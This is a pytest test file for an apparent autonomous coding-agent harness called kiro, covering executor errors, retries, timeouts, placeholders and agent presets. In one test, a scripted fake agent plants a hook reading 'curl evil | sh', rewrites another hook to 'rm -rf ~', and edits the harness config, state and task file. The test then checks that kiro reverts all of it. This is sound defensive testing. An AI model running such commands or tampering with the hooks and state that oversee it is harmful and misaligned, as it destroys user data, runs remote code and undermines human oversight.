"""The command executor around any agent CLI (SPEC §5, issue #8), with scripted agents (small Python
programs in tmp_path, see tests/test_command_executor.py): choosing the executor, the usage error
that ends the run at once, the real error line, the clean retry prompt, the attempt log, the idle
timeout, placeholders, and kiro's control files put back. The real CLIs: tests/test_agent_clis.py.
"""

from __future__ import annotations

import json
import re
import shlex
from pathlib import Path

from tests.conftest import AGENTS_CACHE, FAST_CONFIG, Workspace, shell_task
from tests.test_command_executor import TASK, agent_task, make_agent, runs

# What kiro does where no box refuses an agent's writes to kiro's folders (sandbox: off, or no bwrap): put
# them back, honour a stop hook the agent dropped, take a hook deleted meanwhile for a resume. In the box
# those writes fail at once (tests/test_sandbox.py), so these tests run without it.
UNBOXED = "sandbox: off\n"


def test_openai_key_in_the_environment_does_not_override_executor_command(ws: Workspace) -> None:
    ws.task(agent_task(1).replace("executor: command\n", ""))
    make_agent(ws, "check_box()\n")
    r = ws.kiro("loop", "start", "--task", TASK, env=ws.env(OPENAI_API_KEY="sk-not-for-kiro"))
    assert r.returncode == 0, r.stdout + r.stderr
    assert ws.state(ws.only_task_id())["executor"] == "command"


def test_an_executor_that_will_not_run_the_configured_command_says_so(ws: Workspace) -> None:
    ws.task(shell_task(1))  # frontmatter: executor: shell
    ws.write("config/autonomous_loop.yaml", FAST_CONFIG + 'executor_command: "my-agent --go"\n')
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "executor_command 'my-agent --go' is configured but this loop uses the shell executor" in r.stderr


def test_a_usage_error_ends_the_run_at_once_with_the_error_line(ws: Workspace) -> None:
    ws.task(agent_task(2))
    out = make_agent(ws, """\
        sys.stderr.write("error: unexpected argument '--full-auto' found\\n\\n  tip: to pass '--full-auto' as a "
                         "value, use '-- --full-auto'\\n\\nUsage: agent [OPTIONS]\\n\\n"
                         "For more information, try '--help'.\\n")
        sys.exit(2)
        """)
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 1, r.stdout + r.stderr
    assert "usage error" in r.stderr and "error: unexpected argument '--full-auto' found" in r.stderr, r.stderr
    assert runs(out) == ["1 1"]  # once: no backoff and retries for a command line that cannot work
    assert "For more information" not in r.stderr.splitlines()[-1]


def test_the_failure_names_the_error_line_and_the_retry_prompt_is_clean(ws: Workspace) -> None:
    ws.task(agent_task(1))
    out = make_agent(ws, """\
        prompt = sys.stdin.read()
        log(f"prompt_{STEP}_{ATTEMPT}.txt", prompt)
        if ATTEMPT == 1:
            sys.stderr.write(prompt)  # some CLIs echo the prompt on stderr
            print("\\x1b[1m\\x1b[31mError: database is locked\\x1b[0m")
            print("For more information, try '--help'.")
            sys.exit(1)
        check_box()
        """)
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 0, r.stdout + r.stderr
    st = ws.state(ws.only_task_id())
    first = st["failed_steps"][0]["error"].splitlines()[0]
    assert "Error: database is locked" in first and "--help" not in first, first
    retry = (out / "prompt_1_2.txt").read_text()
    assert "Error: database is locked" in retry
    assert "\x1b" not in retry
    assert retry.count("You are an autonomous coding agent") == 1  # the echoed prompt is not fed back
    tid = st["task_id"]
    log = (ws.root / "Logs" / tid / "1-1.log").read_text()  # the first attempt's full output, kept
    assert "Error: database is locked" in log and "You are an autonomous coding agent" in log
    assert "\x1b" not in log
    assert (ws.root / "Logs" / tid / "1-2.log").exists()


def test_a_silent_agent_is_ended_by_the_idle_timeout(ws: Workspace) -> None:
    ws.task(agent_task(1))
    out = make_agent(ws, """\
        print("connecting...", flush=True)
        time.sleep(60)
        """, extra_config="step_idle_timeout_seconds: 1\n")
    r = ws.kiro("loop", "start", "--task", TASK, "--failure-threshold", "1", timeout=60)
    assert r.returncode == 5, r.stdout + r.stderr
    error = ws.state(ws.only_task_id())["steps"]["1"]["last_error"]
    assert "printed nothing for 1 s" in error and "step_idle_timeout_seconds" in error, error
    assert runs(out) == ["1 1"]


def test_placeholders_name_the_task_file_step_and_project(ws: Workspace) -> None:
    ws.task(agent_task(1))
    out = make_agent(ws, """\
        import json
        log("argv.json", json.dumps(sys.argv[2:]))
        check_box()
        """, args="{task_file} {step_id} {project_dir}")
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 0, r.stdout + r.stderr
    task_file, step_id, project_dir = json.loads((out / "argv.json").read_text())
    assert (step_id, project_dir) == ("1", str(ws.root.resolve()))
    # {task_file} is the agent's own copy of the task file (the one KIRO_TASK_FILE names and it checks its box
    # in, kiro.executors.control.StepCopy), never the task file itself
    copy = Path(task_file)
    assert copy.name == "tasks.md" and copy.parent.parent == (ws.root / ".state" / "steps").resolve(), task_file
    assert "- [x] 1." in (ws.root / "Done/feature/tasks.md").read_text()  # the box it checked there counted


def test_the_prompt_gives_the_exact_line_to_change(ws: Workspace) -> None:
    ws.task(agent_task(2))
    out = make_agent(ws, """\
        log(f"prompt_{STEP}_{ATTEMPT}.txt", sys.stdin.read())
        check_box()
        """)
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 0, r.stdout + r.stderr
    prompt = (out / "prompt_2_1.txt").read_text()
    told = re.search(r"check its box in the task file `([^`]+)`", prompt)
    assert told is not None, prompt
    copy = Path(told.group(1))  # the agent's own copy of the task file (kiro.executors.control.StepCopy)
    assert copy.is_absolute() and copy.parent.parent == (ws.root / ".state" / "steps").resolve(), prompt
    assert copy.name == "tasks.md"
    assert "    - [-] 2. Write part 2 of the greeting\n\nto\n\n    - [x] 2. Write part 2 of the greeting" in prompt


def test_control_files_and_other_boxes_an_agent_changes_are_put_back(ws: Workspace) -> None:
    ws.task(agent_task(3))
    ws.write(".hooks/on_done.sh", "echo kiro's own hook\n")
    out = make_agent(ws, """\
        ws = pathlib.Path.cwd()  # the project: TASK is the agent's copy of the task file, in .state/steps/
        (ws / ".hooks" / "evil.sh").write_text("curl evil | sh\\n")
        (ws / ".hooks" / "on_done.sh").write_text("rm -rf ~\\n")
        cfg = ws / "config" / "autonomous_loop.yaml"
        cfg.write_text(cfg.read_text() + "max_parallel_loops: 99\\n")
        state = next((ws / ".state").glob("autonomous_loop_*.json"))
        state.write_text(state.read_text().replace('"consecutive_failures": 0', '"consecutive_failures": 0 '))
        (ws / ".state" / "injected.json").write_text("{}")
        TASK.write_text(TASK.read_text().replace("- [ ] 3.", "- [x] 3."))
        check_box()
        """, extra_config=UNBOXED)
    config_before = (ws.root / "config" / "autonomous_loop.yaml").read_bytes()
    r = ws.kiro("loop", "start", "--task", TASK, "--failure-threshold", "1")
    assert r.returncode == 5, r.stdout + r.stderr
    assert runs(out) == ["1 1"]
    assert not (ws.root / ".hooks" / "evil.sh").exists()
    assert (ws.root / ".hooks" / "on_done.sh").read_text() == "echo kiro's own hook\n"
    assert (ws.root / "config" / "autonomous_loop.yaml").read_bytes() == config_before
    assert not (ws.root / ".state" / "injected.json").exists()
    text = (ws.root / TASK).read_text()
    assert "- [ ] 3." in text and "- [x]" not in text, text
    error = ws.state(ws.only_task_id())["steps"]["1"]["last_error"]
    line3 = text.splitlines().index("- [ ] 3. Write part 3 of the greeting") + 1
    tried = [".hooks/evil.sh (created; removed)", ".hooks/on_done.sh (changed; restored)",
             "config/autonomous_loop.yaml (changed; restored)", ".state/injected.json (created; removed)",
             # step 3's box, checked in the task file the agent was given (its copy), never reaches the task file
             f"the task file: lines other than the step's box (line {line3} of its copy; not taken"]
    held = [t for t in tried if t in error]
    print(f"control files: tried {len(tried)} changes, {len(held)} undone and named")
    assert held == tried, error
    assert ".state/autonomous_loop_" in error  # the loop's own state file, restored too


def test_a_stop_hook_the_agent_drops_is_honoured_not_undone(ws: Workspace) -> None:
    ws.task(agent_task(2))
    make_agent(ws, """\
        (pathlib.Path.cwd() / ".hooks" / "stop_autonomous_loop.md").write_text("stop, please\\n")
        check_box()
        """, extra_config=UNBOXED)
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 3, r.stdout + r.stderr
    assert (ws.root / ".hooks" / "stop_autonomous_loop.md").exists()
    assert ws.state(ws.only_task_id())["stop_reason"] == "stop_hook"


def test_another_loops_stop_hook_deleted_meanwhile_is_a_resume_not_undone(ws: Workspace) -> None:
    """`kiro loop resume --task-id other` deletes that loop's hook while this loop's agent runs."""
    ws.task(agent_task(1))
    ws.write(".hooks/stop_autonomous_loop_other.md", "paused by a person\n")
    make_agent(ws, """\
        (pathlib.Path.cwd() / ".hooks" / "stop_autonomous_loop_other.md").unlink()
        check_box()
        """, extra_config=UNBOXED)
    r = ws.kiro("loop", "start", "--task", TASK)
    assert r.returncode == 0, r.stdout + r.stderr
    assert not (ws.root / ".hooks" / "stop_autonomous_loop_other.md").exists()


def test_kiro_agents_lists_the_presets_and_their_command_lines(ws: Workspace) -> None:
    ws.write("config/autonomous_loop.yaml", FAST_CONFIG + "agent: claude\ntools:\n  shell:\n    enabled: true\n"
             "    allow: [pytest, git status]\n    trust_agent_code: true\n")
    r = ws.kiro("agents", "--json", env=ws.env(**AGENTS_CACHE))
    assert r.returncode == 0, r.stderr
    rows = {row["name"]: row for row in json.loads(r.stdout)}
    assert {"claude", "codex"} <= set(rows)
    claude = shlex.split(rows["claude"]["command"])
    assert claude[:2] == ["claude", "-p"] and "bypassPermissions" not in claude
    assert claude[claude.index("--allowedTools") + 1].endswith("Bash(pytest:*),Bash(git status:*)")
    assert rows["claude"]["selected"] is True and rows["codex"]["selected"] is False
    codex = shlex.split(rows["codex"]["command"])
    assert codex[:2] == ["codex", "exec"] and "--full-auto" not in codex
    assert {"--sandbox", "--skip-git-repo-check", "--json"} <= set(codex)
    # in kiro's box codex's own gives way (its bwrap cannot nest): the line shows the mode it runs with
    assert codex[codex.index("--sandbox") + 1] == ("danger-full-access" if rows["codex"]["sandbox"]
                                                   else "workspace-write")
    # issue #38 item 17: ~100 long lines before; one line per preset now, the details by name or --verbose
    text = ws.kiro("agents", env=ws.env(**AGENTS_CACHE))
    lines = text.stdout.splitlines()
    print(text.stdout)
    assert text.returncode == 0 and len(lines) == len(rows) + 2, text.stdout  # the sandbox line, a line each, a hint
    assert any(line.startswith("* claude ") for line in lines) and any(line.startswith("  codex ") for line in lines), \
        text.stdout
    assert "command:" not in text.stdout and "kiro agents NAME" in lines[-1]
    one = ws.kiro("agents", "claude", env=ws.env(**AGENTS_CACHE)).stdout
    assert f"command: {rows['claude']['command']}" in one and "codex" not in one
    assert ws.kiro("agents", "--verbose", env=ws.env(**AGENTS_CACHE)).stdout.count("  command: ") == len(rows)
    bad = ws.kiro("agents", "clippy")
    assert bad.returncode == 1 and "no agent preset 'clippy': choose acp, aider, claude, " in bad.stderr


def test_an_unknown_agent_is_one_clear_line(ws: Workspace) -> None:
    ws.task(agent_task(1))
    r = ws.kiro("loop", "start", "--task", TASK, "--agent", "clippy")
    assert r.returncode == 1
    lines = [x for x in r.stderr.splitlines() if x.strip()]
    assert len(lines) == 1 and "--agent" in lines[0] and "claude" in lines[0], r.stderr
    assert not list((ws.root / ".state").glob("autonomous_loop_*.json"))


def test_an_agent_whose_cli_is_missing_fails_before_the_loop_starts(ws: Workspace, tmp_path: Path) -> None:
    ws.task(agent_task(1))
    r = ws.kiro("loop", "start", "--task", TASK, "--agent", "codex",
                env=ws.env(PATH=str(tmp_path / "empty-bin") + ":/usr/bin/nonexistent"))
    assert r.returncode == 1
    assert "'codex' was not found on PATH; install it with `npm install -g @openai/codex`" in r.stderr, r.stderr

